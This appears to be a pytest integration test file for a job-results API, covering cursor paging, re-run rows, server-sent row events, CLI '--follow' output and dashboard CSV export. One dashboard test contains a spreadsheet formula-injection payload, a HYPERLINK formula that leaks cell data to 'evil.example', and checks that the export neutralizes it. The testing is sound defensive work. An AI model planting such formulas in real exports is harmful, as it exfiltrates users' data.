"""The results cursor and ``row`` events over real HTTP, with rows written the way a worker
writes them (``record_document.lua``): every row exactly once in completion order, re-runs
marked, cursors checked, and the vocabulary fixes (cancelled rows, warnings as a list)."""

from __future__ import annotations

import base64
import csv
import http.client
import io
import random
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import orjson
import pytest
import requests
from support.apistack import ApiStack as Stack
from support.payloads import job_body
from support.servers import ApiClient

from jobgrid.cli import run
from shared.clock import now_ms
from shared.models import JobOut, JobStatusOut, Results, ResultsPage
from shared.status import JobStatus, Phase

pytestmark = pytest.mark.integration

STACK_SETTINGS = {"sse_heartbeat_seconds": 0.3}  # stack, org_key, api: conftest.py


def start(stack: Stack, job: dict[str, Any]) -> None:
    stack.store.transition(job["id"], job["organization_id"], [JobStatus.VALIDATING],
                           status=JobStatus.IN_PROGRESS, phase=Phase.EXECUTE)


def record(stack: Stack, job: dict[str, Any], i: int, failed: bool = False,
           value: str | None = None) -> None:
    row = {"document": {"index": i, "filename": f"doc{i}.txt"},
           "status": "failed" if failed else "completed",
           "values": {"invoice_number": value or f"INV-{i}"},
           "confidence": {"invoice_number": 0.9},
           "error": {"code": "corrupt_document", "message": "x"} if failed else None}
    stack.store.record_document(job["id"], job["organization_id"], i, row, failed=failed,
                                filled=0 if failed else 1, empty=3 if failed else 2)


def finish(stack: Stack, job: dict[str, Any]) -> None:
    assert stack.store.transition(job["id"], job["organization_id"], [JobStatus.IN_PROGRESS],
                                  status=JobStatus.COMPLETED).ok


def page(api: ApiClient, job_id: str, **params: Any) -> dict[str, Any]:
    resp = api.get(f"/v1/jobs/{job_id}/results", params=params)
    assert resp.status_code == 200, resp.text
    body: dict[str, Any] = resp.json()
    ResultsPage.model_validate(body)
    return body


def follow(api: ApiClient, job_id: str, cursor: str | None, limit: int) -> tuple[list[Any], str]:
    """Pages until ``has_more`` is false; the rows seen and the last cursor."""
    seen = []
    while True:
        params: dict[str, Any] = {"limit": limit}
        if cursor:
            params["after"] = cursor
        body = page(api, job_id, **params)
        seen += body["rows"]
        cursor = body["next_cursor"]
        if not body["has_more"]:
            assert cursor is not None
            return seen, cursor


# ------------------------------------------------------------------------ cursor
def test_following_the_cursor_sees_every_row_once_in_completion_order(
        stack: Stack, api: ApiClient) -> None:
    job = api.submit(job_body(23))
    start(stack, job)
    first = page(api, job["id"], limit=5)
    assert first["rows"] == [] and first["has_more"] is False
    assert first["job_status"] == "in_progress" and first["total_rows"] == 23
    empty_again = page(api, job["id"], after=first["next_cursor"], limit=5)
    assert empty_again["next_cursor"] == first["next_cursor"]  # same position when empty
    order = list(range(23))
    random.Random(7).shuffle(order)
    seen: list[dict[str, Any]] = []
    cursor = first["next_cursor"]
    for n, i in enumerate(order):
        record(stack, job, i)
        if n % 4 == 3:
            rows, cursor = follow(api, job["id"], cursor, limit=3)
            seen += rows
    finish(stack, job)
    rows, cursor = follow(api, job["id"], cursor, limit=3)
    seen += rows
    assert [r["document"]["index"] for r in seen] == order
    assert all(r["rerun"] is False and r["status"] == "completed" for r in seen)
    assert seen[0]["values"] == {"invoice_number": f"INV-{order[0]}", "total": None,
                                 "issue_date": None}
    last = page(api, job["id"], after=cursor, limit=3)
    assert last["job_status"] == "completed" and last["rows"] == [] and not last["has_more"]
    # the same rows as the full view, only ordered by completion
    full = {r["document"]["index"]: r
            for r in api.get(f"/v1/jobs/{job['id']}/results").json()["rows"]}
    assert all({k: v for k, v in r.items() if k != "rerun"} == full[r["document"]["index"]]
               for r in seen)


def test_limit_alone_starts_at_the_first_row_and_jsonl_pages_carry_headers(
        stack: Stack, api: ApiClient) -> None:
    job = api.submit(job_body(4))
    start(stack, job)
    for i in (3, 1, 2):
        record(stack, job, i)
    body = page(api, job["id"], limit=2)
    assert [r["document"]["index"] for r in body["rows"]] == [3, 1] and body["has_more"]
    resp = api.get(f"/v1/jobs/{job['id']}/results",
                   params={"format": "jsonl", "after": body["next_cursor"], "limit": 10})
    assert resp.status_code == 200 and resp.headers["Content-Type"].startswith(
        "application/x-ndjson")
    lines = [orjson.loads(line) for line in resp.text.splitlines()]
    assert [r["document"]["index"] for r in lines] == [2]
    assert resp.headers["X-Has-More"] == "false"
    assert resp.headers["X-Job-Status"] == "in_progress"
    detail = page(api, job["id"], limit=1, detail="true")["rows"][0]
    assert set(detail["detail"]) == {"invoice_number", "total", "issue_date"}
    assert detail["needs_review"] == []
    again = page(api, job["id"], after=resp.headers["X-Next-Cursor"], limit=10)
    assert again["rows"] == []


def test_without_limit_or_after_results_answer_as_before(stack: Stack, api: ApiClient) -> None:
    job = api.submit(job_body(2))
    start(stack, job)
    record(stack, job, 1)
    body = api.get(f"/v1/jobs/{job['id']}/results").json()
    assert set(body) == {"job_id", "job_status", "schema", "total_rows", "rows"}
    Results.model_validate(body)
    assert [r["status"] for r in body["rows"]] == ["pending", "completed"]
    assert all("rerun" not in r for r in body["rows"])


def test_rerun_rows_come_again_marked(stack: Stack, api: ApiClient) -> None:
    job = api.submit(job_body(3))
    start(stack, job)
    record(stack, job, 0)
    record(stack, job, 1, failed=True)
    record(stack, job, 2)
    finish(stack, job)
    rows, cursor = follow(api, job["id"], None, limit=10)
    assert [(r["document"]["index"], r["status"]) for r in rows] == \
        [(0, "completed"), (1, "failed"), (2, "completed")]
    retried = api.post(f"/v1/jobs/{job['id']}/retry", json={"only": "failed"})
    assert retried.status_code == 202, retried.text
    assert retried.json()["status"] == "queued"
    # a client starting now sees only the rows that stand: the re-opened one is gone
    fresh, _ = follow(api, job["id"], None, limit=10)
    assert [r["document"]["index"] for r in fresh] == [0, 2]
    stack.store.transition(job["id"], job["organization_id"], [JobStatus.QUEUED],
                           status=JobStatus.IN_PROGRESS, phase=Phase.EXECUTE)
    record(stack, job, 1, value="INV-1-again")
    finish(stack, job)
    more, _ = follow(api, job["id"], cursor, limit=10)
    assert [(r["document"]["index"], r["status"], r["rerun"]) for r in more] == \
        [(1, "completed", True)]
    assert more[0]["values"]["invoice_number"] == "INV-1-again"
    fresh, _ = follow(api, job["id"], None, limit=10)
    assert [(r["document"]["index"], r["rerun"]) for r in fresh] == \
        [(0, False), (2, False), (1, True)]


def foreign_cursor(job_id: str, position: int = 1) -> str:
    return base64.urlsafe_b64encode(f"r1:{job_id}:{position}".encode()).decode().rstrip("=")


@pytest.mark.parametrize("params", [
    {"after": "not-a-cursor"}, {"after": "!!!"}, {"after": ""}, {"after": " "},
    {"after": base64.urlsafe_b64encode(b"r1:x:1").decode()},
    {"after": base64.urlsafe_b64encode(b"c:1:abc").decode()},
    {"limit": "0"}, {"limit": "1001"}, {"limit": "ten"}, {"limit": "-1"}, {"limit": ""},
    {"limit": "5", "format": "csv"}, {"limit": "5", "format": "xml"},
    {"limit": "5", "detail": "maybe"},
])
def test_bad_cursor_requests_are_400(stack: Stack, api: ApiClient,
                                     params: dict[str, str]) -> None:
    job = api.submit(job_body(1))
    resp = api.get(f"/v1/jobs/{job['id']}/results", params=params)
    assert resp.status_code == 400, resp.text
    assert resp.json()["error"]["code"] == "validation_error"


def test_a_cursor_of_another_job_or_past_the_job_is_400(stack: Stack, api: ApiClient) -> None:
    job, other = api.submit(job_body(1)), api.submit(job_body(1))
    start(stack, other)
    record(stack, other, 0)
    theirs = page(api, other["id"], limit=1)["next_cursor"]
    resp = api.get(f"/v1/jobs/{job['id']}/results", params={"after": theirs})
    assert resp.status_code == 400 and "another job" in resp.json()["error"]["message"]
    ahead = api.get(f"/v1/jobs/{job['id']}/results",
                    params={"after": foreign_cursor(job["id"], 10**9)})
    assert ahead.status_code == 400 and "past" in ahead.json()["error"]["message"]


def test_cursor_pages_keep_tenancy_and_expiry(stack: Stack, api: ApiClient,
                                              make_api_key: Callable[..., tuple[str, str]]
                                              ) -> None:
    job = api.submit(job_body(1))
    start(stack, job)
    record(stack, job, 0)
    cursor = page(api, job["id"], limit=1)["next_cursor"]
    stranger = ApiClient(stack.server.url, make_api_key(settings=stack.env)[0])
    try:
        for params in ({"limit": 1}, {"after": cursor}):
            resp = stranger.get(f"/v1/jobs/{job['id']}/results", params=params)
            assert resp.status_code == 404 and resp.json()["error"]["code"] == "not_found"
    finally:
        stranger.close()
    assert api.get(f"/v1/jobs/{uuid.uuid4()}/results", params={"limit": 1}).status_code == 404
    stack.set_job(job["id"], expires_at=now_ms() - 1000)
    assert api.get(f"/v1/jobs/{job['id']}/results", params={"limit": 1}).status_code == 404


def test_retry_failed_refuses_a_running_job_and_answers_404_for_an_unknown_one(
        stack: Stack, api: ApiClient) -> None:
    job = api.submit(job_body(1))  # no worker here: it stays validating
    resp = api.post(f"/v1/jobs/{job['id']}/retry", json={"only": "failed"})
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "conflict"
    assert "completed (with failed rows)" in resp.json()["error"]["message"]
    assert api.post(f"/v1/jobs/{uuid.uuid4()}/retry", json={"only": "failed"}).status_code \
        == 404
    empty_body = api.post(f"/v1/jobs/{job['id']}/retry", json={})  # the contract's retry
    assert empty_body.status_code == 409
    assert "only failed, cancelled or expired" in empty_body.json()["error"]["message"]


# ------------------------------------------------------------------ vocabulary
def test_unprocessed_rows_of_a_cancelled_job_read_cancelled(stack: Stack,
                                                           api: ApiClient) -> None:
    job = api.submit(job_body(3))
    start(stack, job)
    record(stack, job, 1)
    assert api.post(f"/v1/jobs/{job['id']}/cancel").status_code == 200
    rows = api.get(f"/v1/jobs/{job['id']}/results").json()["rows"]
    assert [r["status"] for r in rows] == ["cancelled", "completed", "cancelled"]
    Results.model_validate({**api.get(f"/v1/jobs/{job['id']}/results").json()})
    csv_rows = api.get(f"/v1/jobs/{job['id']}/results",
                       params={"format": "csv"}).text.splitlines()
    assert [line.split(",")[2] for line in csv_rows[1:]] == ["cancelled", "completed",
                                                             "cancelled"]
    # a retry runs them again: pending, not cancelled, while it runs
    assert api.post(f"/v1/jobs/{job['id']}/retry").status_code == 202
    rows = api.get(f"/v1/jobs/{job['id']}/results").json()["rows"]
    assert [r["status"] for r in rows] == ["pending", "completed", "pending"]


def test_warnings_are_a_list_in_status_and_full_view(stack: Stack, api: ApiClient) -> None:
    job = api.submit(job_body(2))
    status = api.get(f"/v1/jobs/{job['id']}/status").json()
    full = api.get(f"/v1/jobs/{job['id']}").json()
    JobStatusOut.model_validate(status)
    JobOut.model_validate(full)
    assert status["warnings"] == full["warnings"] == []
    assert status["needs_review"] == full["needs_review"] == 0
    start(stack, job)
    record(stack, job, 0, failed=True)
    stack.redis.hset(stack.keys.job(job["id"]), "warnings",
                     orjson.dumps([{"code": "corrupt_document", "message": "m",
                                    "document": 0}]).decode())
    status = api.get(f"/v1/jobs/{job['id']}/status").json()
    full = api.get(f"/v1/jobs/{job['id']}").json()
    assert status["warnings"] == full["warnings"] and len(status["warnings"]) == 1


# ------------------------------------------------------------------- row events
@dataclass
class Event:
    id: str | None
    event: str
    data: dict[str, Any]


class Stream:
    """A minimal EventSource over one raw HTTP response."""

    def __init__(self, url: str, path: str, headers: dict[str, str]) -> None:
        host, port = url.removeprefix("http://").split(":")
        self.conn = http.client.HTTPConnection(host, int(port), timeout=10)
        self.conn.request("GET", path, headers={"Accept": "text/event-stream", **headers})
        self.resp = self.conn.getresponse()

    def next(self) -> Event | None:
        fields: dict[str, str] = {}
        while True:
            line = self.resp.readline()
            if not line:
                return None
            text = line.decode().rstrip("\n")
            if text == "":
                if "data" in fields:
                    return Event(fields.get("id"), fields.get("event", ""),
                                 orjson.loads(fields["data"]))
                continue
            if text.startswith(":"):
                continue
            name, _, value = text.partition(":")
            fields[name] = value.removeprefix(" ")

    def rest(self) -> list[Event]:
        out = []
        while (ev := self.next()) is not None:
            out.append(ev)
        return out

    def close(self) -> None:
        self.conn.close()


@pytest.fixture
def streams(stack: Stack, org_key: tuple[str, str]) -> Iterator[Callable[..., Stream]]:
    opened: list[Stream] = []

    def factory(job_id: str, query: str = "?rows=true",
                headers: dict[str, str] | None = None) -> Stream:
        s = Stream(stack.server.url, f"/v1/jobs/{job_id}/events{query}",
                   {"Api-Key": org_key[0], **(headers or {})})
        opened.append(s)
        return s

    yield factory
    for s in opened:
        s.close()


def test_row_events_carry_each_row_once_before_its_status(
        stack: Stack, api: ApiClient, streams: Callable[..., Stream]) -> None:
    job = api.submit(job_body(4))
    start(stack, job)
    record(stack, job, 2)
    stream = streams(job["id"])
    assert stream.resp.status == 200
    first = stream.next()
    assert first is not None and first.event == "row" and first.data["document"]["index"] == 2
    status = stream.next()
    assert status is not None and status.event == "status"
    for i in (0, 3, 1):
        record(stack, job, i)
    finish(stack, job)
    events = [first, status, *stream.rest()]
    rows = [e for e in events if e.event == "row"]
    assert [r.data["document"]["index"] for r in rows] == [2, 0, 3, 1]
    assert events[-1].event == "status" and events[-1].data["status"] == "completed"
    # every id is a results cursor; a row's id resumes the results pages after it
    body = page(api, job["id"], after=rows[1].id, limit=10)
    assert [r["document"]["index"] for r in body["rows"]] == [3, 1]
    assert rows[0].data == page(api, job["id"], limit=1)["rows"][0]
    # resuming from the middle sends only what follows; from the end, 204
    resumed = streams(job["id"], headers={"Last-Event-ID": rows[2].id or ""}).rest()
    assert [e.data["document"]["index"] for e in resumed if e.event == "row"] == [1]
    done = streams(job["id"], headers={"Last-Event-ID": events[-1].id or ""})
    assert done.resp.status == 204
    # ?after= starts later too; a stale Last-Event-ID from another job is ignored
    after = streams(job["id"], query=f"?rows=true&after={rows[2].id}",
                    headers={"Last-Event-ID": foreign_cursor(str(uuid.uuid4()))}).rest()
    assert [e.data["document"]["index"] for e in after if e.event == "row"] == [1]
    # without rows=true the stream is as before: status events with the version as id
    plain = streams(job["id"], query="").rest()
    assert [e.event for e in plain] == ["status"] and plain[0].id == str(plain[0].data["version"])


@pytest.mark.parametrize("query", ["?rows=maybe", "?rows=true&after=nope", "?rows=true&after="])
def test_bad_row_stream_requests_are_400(stack: Stack, api: ApiClient,
                                         streams: Callable[..., Stream], query: str) -> None:
    job = api.submit(job_body(1))
    stream = streams(job["id"], query=query)
    assert stream.resp.status == 400
    assert orjson.loads(stream.resp.read())["error"]["code"] == "validation_error"


# ------------------------------------------------------------ jobgrid --follow
def record_slowly(stack: Stack, job: dict[str, Any], order: list[int], fail: int = -1) -> None:
    for i in order:
        time.sleep(0.1)
        record(stack, job, i, failed=i == fail)
    finish(stack, job)


@pytest.mark.parametrize("fmt", ["jsonl", "table"])
def test_cli_follow_streams_rows_as_they_finish(stack: Stack, api: ApiClient,
                                               org_key: tuple[str, str], fmt: str,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    job = api.submit(job_body(5))
    start(stack, job)
    record(stack, job, 4)  # already finished before the client starts
    writer = threading.Thread(target=record_slowly, args=(stack, job, [2, 0, 3, 1], 3))
    writer.start()
    try:
        code = run(["--url", stack.server.url, "--api-key", org_key[0], "results", job["id"],
                    "--follow", "--format", fmt])
    finally:
        writer.join()
    assert code == 0
    out = capsys.readouterr().out.splitlines()
    if fmt == "jsonl":
        rows = [orjson.loads(line) for line in out]
        assert [r["document"]["index"] for r in rows] == [4, 2, 0, 3, 1]
        assert [r["status"] for r in rows] == ["completed"] * 3 + ["failed", "completed"]
    else:
        assert [line.split()[0] for line in out] == ["#4", "#2", "#0", "#3", "#1"]
        assert "invoice_number=INV-2" in out[1] and "[failed: corrupt_document]" in out[3]


def test_cli_follow_refuses_csv_and_reports_api_errors(stack: Stack, org_key: tuple[str, str],
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    base = ["--url", stack.server.url, "--api-key", org_key[0], "results"]
    assert run([*base, str(uuid.uuid4()), "--follow", "--format", "csv"]) == 2
    assert "--follow" in capsys.readouterr().err
    assert run([*base, str(uuid.uuid4()), "--follow"]) == 2
    assert "not_found" in capsys.readouterr().err


def test_cli_results_detail_and_csv_columns(stack: Stack, api: ApiClient,
                                            org_key: tuple[str, str],
                                            capsys: pytest.CaptureFixture[str]) -> None:
    job = api.submit(job_body(2))
    start(stack, job)
    record(stack, job, 0, value="=1+1")
    record(stack, job, 1, failed=True)
    base = ["--url", stack.server.url, "--api-key", org_key[0], "results", job["id"]]
    assert run([*base, "--format", "csv", "--detail"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("index,filename,status,invoice_number,invoice_number.confidence")
    assert lines[0].endswith("error.code,error.message,needs_review")
    assert lines[1].startswith("0,doc0.txt,completed,'=1+1,0.9,")
    assert ",corrupt_document,x," in lines[2]
    assert run([*base, "--detail"]) == 0
    table = capsys.readouterr().out
    assert "(0.90)" in table and "corrupt_document" in table


# -------------------------------------------------------------------- dashboard
def dashboard(stack: Stack, key: str) -> requests.Session:
    s = requests.Session()
    base = stack.server.url
    resp = s.post(base + "/dashboard/login", data={"api_key": key, "next": "/dashboard"},
                  headers={"Origin": base}, allow_redirects=False)
    assert resp.status_code == 303, resp.text
    return s


def test_dashboard_csv_is_neutralized_and_its_fill_rate_counts_processed_cells(
        stack: Stack, api: ApiClient, org_key: tuple[str, str]) -> None:
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    job = api.submit(job_body(4))
    start(stack, job)
    record(stack, job, 0, value=evil)
    record(stack, job, 1, value="-12.5")
    assert api.post(f"/v1/jobs/{job['id']}/cancel").status_code == 200
    s = dashboard(stack, org_key[0])
    try:
        text = s.get(stack.server.url + f"/dashboard/jobs/{job['id']}/results.csv").text
        assert text == api.get(f"/v1/jobs/{job['id']}/results", params={"format": "csv"}).text
        table = list(csv.reader(io.StringIO(text)))
        assert table[1][3] == "'" + evil and table[2][3] == "-12.5"
        assert [r[2] for r in table[1:]] == ["completed", "completed", "cancelled",
                                             "cancelled"]
        page = s.get(stack.server.url + f"/dashboard/jobs/{job['id']}").text
        # 2 of 6 processed cells are filled (33 %), not 2 of all 12 (17 %)
        assert 'id="fill-rate">33 %<' in page
    finally:
        s.close()


def test_cli_retry_failed(stack: Stack, api: ApiClient, org_key: tuple[str, str],
                          capsys: pytest.CaptureFixture[str]) -> None:
    job = api.submit(job_body(2))
    start(stack, job)
    record(stack, job, 0)
    record(stack, job, 1, failed=True)
    finish(stack, job)
    base = ["--url", stack.server.url, "--api-key", org_key[0], "retry", job["id"]]
    assert run(base) == 2  # the contract's retry: 409 on a completed job
    assert "conflict" in capsys.readouterr().err
    assert run([*base, "--failed"]) == 0
    assert f"{job['id']}: queued" in capsys.readouterr().out
    assert api.get(f"/v1/jobs/{job['id']}").json()["failed_documents"] == 0
